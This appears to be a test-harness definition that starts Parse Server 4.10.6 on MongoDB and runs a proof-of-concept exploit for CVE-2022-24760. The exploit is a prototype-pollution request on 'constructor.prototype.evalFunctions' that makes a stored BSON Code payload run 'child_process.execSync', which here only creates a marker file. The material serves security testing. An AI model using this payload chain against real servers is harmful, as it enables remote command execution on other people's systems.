// The Parse Server whose updates could reach prototypes, on a document store.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Application } from '../application.ts';
import { startParse, useParse } from './parse-server.ts';

export default {
  name: 'parse-server-4',
  packages: { 'parse-server': '4.10.6' },
  // A package that it asks for too loosely.
  overrides: { 'extract-files': '11.0.0' },
  needs: 'mongodb',
  start(place) {
    // One of its packages asks for files without their endings, which Node has stopped to guess.
    const folder = join(place.packages, 'extract-files/public');
    for (const name of ['extractFiles', 'isExtractableFile', 'ReactNativeFile'])
      writeFileSync(join(folder, name), `module.exports = require('./${name}.js');\n`);
    return startParse(place, `mongodb://127.0.0.1:${place.serverPort}/parse`);
  },
  use: (user) => useParse(user),
  attacks: [
    {
      id: 'CVE-2022-24760',
      guard: 'prototype-pollution',
      title: 'increments a field whose path leads to the prototype of all objects, has a stored function evaluated',
      async attempt(user, { made, appears }) {
        const file = made();
        const code = `delete Object.prototype.evalFunctions; process.mainModule.require("child_process").execSync("touch ${file}")`;
        const { json } = await user.post('/parse/classes/Trap', { a: 1, code: { _bsontype: 'Code', code } });
        const { objectId } = (json ?? {}) as { objectId: string };
        await user.put(`/parse/classes/Trap/${objectId}`, {
          'constructor.prototype.evalFunctions': { __op: 'Increment', amount: 1 },
        });
        await user.get('/parse/classes/Trap');
        return appears(file);
      },
    },
  ],
} satisfies Application;
